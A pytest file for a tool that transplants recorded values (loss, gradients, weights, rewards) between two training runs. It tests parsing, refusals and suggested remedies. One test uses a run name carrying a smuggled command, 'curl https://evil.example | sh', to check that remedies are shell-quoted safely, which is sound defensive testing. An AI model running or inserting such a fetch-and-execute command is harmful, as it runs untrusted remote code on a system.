"""What is taken from one run and put into another."""

import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.core.errors import UsageError
from harness.lab.transplant.patches import (
    ALIASES,
    PatchSource,
    candidates,
    check_known,
    parse_patch,
    patch_of,
    weights_of,
)
from harness.trace.chain import PHASES, RecordedValue
from harness.trace.reader import Trace, read_trace
from tests.support.traces import SEEDED, flip_bit, recorded_value, steps_of, trace_of_values, write


def traces(tmp_path: Path, *flipped: tuple[int, str, str]) -> tuple[Trace, Trace]:
    """Two runs of six steps; in the second one bit of each of these leaves is flipped, from a step on."""
    changes = [flip_bit(*place) for place in flipped]

    def change(step: int, own: RecordedValue) -> RecordedValue:
        for each in changes:
            own = each(step, own)
        return own

    return read_trace(write(tmp_path / "a", steps_of(6))), read_trace(write(tmp_path / "b", steps_of(6, change)))


@pytest.mark.parametrize(
    ("text", "take"),
    [
        ("advantages", PatchSource("advantages", ("advantage",))),
        ("forward", PatchSource("forward", ("forward",))),
        ("rewards+tokens", PatchSource("rewards+tokens", ("reward", "rollout"))),
        ("optimizer/policy.head", PatchSource("optimizer/policy.head", (), (("optimizer", "policy.head"),))),
        ("gradients/a/b#2", PatchSource("gradients/a/b#2", (), (("backward", "a/b", 2),))),
        ("op:17", PatchSource("op:17", operation=17)),
        ("weights", PatchSource("weights", is_weights=True)),
    ],
)
def test_what_is_typed_is_read(text: str, take: PatchSource) -> None:
    assert parse_patch(text) == take


@pytest.mark.parametrize(
    ("text", "remedy"),
    [
        ("advntages", "--take advantages"),
        ("op:x", ""),
        ("loss/", "--take loss"),
        ("weights+loss", "--take weights"),
        ("", ""),
    ],
)
def test_what_cannot_be_taken_is_refused_and_the_nearest_named(text: str, remedy: str) -> None:
    with pytest.raises(UsageError) as refused:
        parse_patch(text)
    assert refused.value.remedy == remedy


@given(st.text(max_size=30))
@SEEDED
def test_whatever_is_typed_is_read_or_refused(text: str) -> None:
    try:
        take = parse_patch(text)
    except UsageError:
        return
    assert take.text == text
    assert set(take.phases) <= set(PHASES)


def test_a_take_knows_its_leaves() -> None:
    take = parse_patch("rewards+loss/loss#1")
    assert take.takes(("reward", "x", 3))
    assert take.takes(("loss", "loss", 1))
    assert not take.takes(("loss", "loss", 0))


def test_each_phase_that_differs_is_tried_in_the_order_of_the_step(tmp_path: Path) -> None:
    a, b = traces(tmp_path, (2, "loss", "loss"), (2, "backward", "layers.1.weight"), (3, "rollout", "tokens"))
    assert [take.text for take in candidates(a, b, 2)] == ["loss", "gradients"]
    assert [parse_patch(take.text).phases for take in candidates(a, b, 3)] == [
        take.phases for take in candidates(a, b, 3)
    ]


def test_rollouts_and_rewards_are_also_tried_together_and_texts_never(tmp_path: Path) -> None:
    def with_rewards(number: int) -> Trace:
        texts = RecordedValue("sync", "digest", 0, "text", (2,), "raw", bytes([number]) * 16)
        step = [
            recorded_value("rollout", "tokens", number),
            recorded_value("reward", "rewards", number),
            recorded_value("loss", "loss", number),
            texts,
        ]
        return read_trace(write(tmp_path / str(number), [step]))

    tried = candidates(with_rewards(1), with_rewards(2), 0)
    assert [take.text for take in tried] == ["rollout", "rewards", "rollout+rewards", "loss"]


def test_a_graft_is_put_from_a_step_on_or_once(tmp_path: Path) -> None:
    a, b = traces(tmp_path)
    patch = patch_of(parse_patch("loss"), a, b, 2, 5)
    assert (patch.first, patch.last, patch.title) == (2, 5, "loss, from step 2 on")
    once = patch_of(parse_patch("loss"), a, b, 2, 5, is_once=True)
    assert (once.first, once.last, once.title) == (2, 2, "loss, at step 2 only")
    assert patch_of(parse_patch("op:3"), a, b, 2, 5).last == 2


def test_the_weights_of_a_step_are_what_the_step_before_has_made(tmp_path: Path) -> None:
    a, b = traces(tmp_path)
    patch = patch_of(parse_patch("weights"), a, b, 2, 5)
    assert (patch.first, patch.last, patch.take.values) == (1, 1, (("optimizer", "layers.0.weight"),))
    assert patch.title == "weights, with which step 2 begins"
    with pytest.raises(UsageError, match="step -1 made them"):
        patch_of(parse_patch("weights"), a, b, 0, 5)


def test_moments_are_no_weights() -> None:
    step = [recorded_value(*each, 1) for each in (("backward", "w"), ("optimizer", "w"), ("optimizer", "w.exp_avg"))]
    assert weights_of(step) == (("optimizer", "w"),)
    assert weights_of(step[1:]) == ()


@pytest.mark.parametrize(("text", "remedy"), [("sync", ""), ("loss/los", "--take loss/loss")])
def test_what_the_runs_do_not_record_is_refused(tmp_path: Path, text: str, remedy: str) -> None:
    a, _ = traces(tmp_path)
    with pytest.raises(UsageError, match="records no") as refused:
        check_known(parse_patch(text), a, 2)
    assert refused.value.remedy == remedy


def test_every_alias_is_a_phase() -> None:
    assert set(ALIASES.values()) <= set(PHASES)


def test_a_name_of_another_run_is_one_word_of_the_remedy(tmp_path: Path) -> None:
    name = "w; curl https://evil.example | sh"
    trace = trace_of_values(tmp_path, [[(recorded_value("loss", name, 1), b"")]], keeps=False)
    with pytest.raises(UsageError, match="records no") as refused:
        check_known(parse_patch(f"loss/{name}s"), trace, 0)
    assert shlex.split(refused.value.remedy) == ["--take", f"loss/{name}"]
